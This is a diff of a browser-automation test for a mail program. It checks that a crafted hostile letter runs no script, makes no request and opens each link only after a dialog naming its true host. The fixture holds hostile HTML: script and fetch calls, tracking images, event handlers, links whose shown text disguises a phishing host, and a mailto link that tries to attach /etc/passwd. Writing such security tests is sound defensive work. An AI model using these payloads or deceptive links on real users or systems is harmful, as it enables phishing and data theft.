@@ -1,5 +1,5 @@
 import { createServer, type AddressInfo, type Server, type Socket } from 'node:net'
-import type { Page } from 'playwright-core'
+import type { Locator, Page } from 'playwright-core'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { practiceLetters } from '../../scripts/practice-office/letters/index.ts'
 import { writeMail } from '../../scripts/practice-office/letters/write-mail.ts'
@@ -58,33 +58,22 @@ test('of hostile letters no script runs, no request leaves and nothing navigates
   )
   expect(shown.length).toBeGreaterThan(2)
 
-  // Neither the middle button nor a key held down gets a window that stays.
+  // However a link is clicked, the shell asks by its true host, once, and opens that very address; nothing navigates and no window stays.
   await find(page, 'Everything a letter must not do')
   const frame = page.frameLocator(`iframe[title="${ja.letters.htmlFrame}"]`)
-  const link = frame.getByText('www.consulate.example/passport')
-  const question = page.getByRole('dialog')
-  for (const way of [{ button: 'middle' }, { modifiers: ['Control'] }, { modifiers: ['Shift'] }] as const) {
-    await link.click(way as { button: 'middle' })
-    await page.keyboard.press('Escape')
-    await eventually(() => page.context().pages().length === 1)
-  }
-  await question.waitFor({ state: 'detached' })
-  expect(await program.opened()).toEqual([])
-
-  // A click on a link stops at the question, which names the true host.
-  await link.click()
-  await question.getByText('login.lucky-travel.example', { exact: true }).waitFor()
-  await picture(page, 'hostile-link')
-  expect(await program.opened()).toEqual([])
-  await question.getByRole('button', { name: ja.frame.cancel }).click()
-  await question.waitFor({ state: 'detached' })
-  expect(await program.opened()).toEqual([])
-  await link.click()
-  await question.getByRole('button', { name: ja.letters.link.open }).click()
-  await question.waitFor({ state: 'detached' })
-  await eventually(async () => (await program.opened()).length === 1)
-  expect(await program.opened()).toEqual(['https://login.lucky-travel.example/passport'])
-
+  const letter = page.frames().find((one) => one.parentFrame() !== null)!
+  const address = letter.url()
+  const expected: string[] = []
+  for (const [text, url, message] of clicked)
+    for (const [, click] of ways) {
+      await click(frame.getByText(text))
+      expected.push(url)
+      await eventually(async () => (await program.opened()).length >= expected.length)
+      await eventually(() => page.context().pages().length === 1)
+      expect(await program.opened()).toEqual(expected)
+      const boxes = await program.asked()
+      expect([boxes.length, plain(boxes.at(-1)!.message), letter.url()]).toEqual([expected.length, message, address])
+    }
   expect(page.url()).toBe(home)
   await eventually(() => page.context().pages().length === 1)
   expect(dialogs).toEqual([])
@@ -92,10 +81,44 @@ test('of hostile letters no script runs, no request leaves and nothing navigates
   const reached = journey.requests.filter(
     (url) => url.includes(`:${port}`) || url.includes('pixel') || url.includes('lucky-travel'),
   )
-  // The link's own navigation is the only one that was tried, and it was stopped before it left.
-  expect(new Set(reached)).toEqual(new Set(reached.length ? ['https://login.lucky-travel.example/passport'] : []))
-  expect(journey.faults.filter((fault) => fault !== 'request: https://login.lucky-travel.example/passport')).toEqual([])
+  // The links' own navigations are the only ones that were tried, and they were stopped before they left.
+  expect(reached.filter((url) => !clicked.some(([, link]) => url.startsWith(link)))).toEqual([])
+  expect(journey.faults.filter((fault) => !clicked.some(([, link]) => fault.startsWith(`request: ${link}`)))).toEqual(
+    [],
+  )
 })
+
+/** The links of the crafted letter: what they say, where they lead, and what the shell asks. */
+const clicked = [
+  [
+    'www.consulate.example/passport',
+    'https://login.lucky-travel.example/passport',
+    'ブラウザーで「login.lucky-travel.example」を開きますか。',
+  ],
+  [
+    'www.consulate.example/visa',
+    'http://visa.lucky-travel.example/form',
+    'ブラウザーで「visa.lucky-travel.example」を開きますか。',
+  ],
+  [
+    'consul@consulate.example',
+    'mailto:claims@lucky-travel.example',
+    'メールソフトで「claims@lucky-travel.example」宛てのメールを作りますか。',
+  ],
+] as const
+
+/** Every way in which a link is opened that a browser knows. */
+const ways = Object.entries({
+  'a click': (link) => link.click(),
+  'the middle button': (link) => link.click({ button: 'middle' }),
+  'a click with Ctrl': (link) => link.click({ modifiers: ['Control'] }),
+  'a click with Shift': (link) => link.click({ modifiers: ['Shift'] }),
+  'a click with Ctrl and Shift': (link) => link.click({ modifiers: ['Control', 'Shift'] }),
+  'the key Enter': (link) => link.press('Enter'),
+} satisfies Record<string, (link: Locator) => Promise<void>>)
+
+/** Without the marks that keep letters of another direction apart. */
+const plain = (text: string) => text.replaceAll(/[\u2068\u2069]/gu, '')
 
 /** Opens a letter by way of the search. */
 async function find(page: Page, subject: string): Promise<void> {
@@ -123,7 +146,8 @@ p::before { content: url(${host}/b.png) }
 <script src="${host}/s.js"></script>
 <script>fetch('${host}/fetch'); new WebSocket('${host.replace('http', 'ws')}'); window.top.hit = 1; alert('crafted')</script></head>
 <body onload="new Image().src='${host}/onload'" background="${host}/body.png" style="background:url(${host}/style.png)">
-<p>Please confirm at <a href="https://login.lucky-travel.example/passport" ping="${host}/ping">www.consulate.example/passport</a>.</p>
+<p>Please confirm at <a href="https://login.lucky-travel.example/passport" ping="${host}/ping">www.consulate.example/passport</a>,
+<a href="http://visa.lucky-travel.example/form" target="_blank">www.consulate.example/visa</a> or <a href="mailto:claims@lucky-travel.example?attach=/etc/passwd" target="_top">consul@consulate.example</a>.</p>
 <img src="${host}/1.png" srcset="${host}/2.png 2x" lowsrc="${host}/3.png" onerror="alert(1)">
 <picture><source srcset="${host}/4.png"><img src="${host}/5.png"></picture>
 <input type=image src="${host}/6.png">
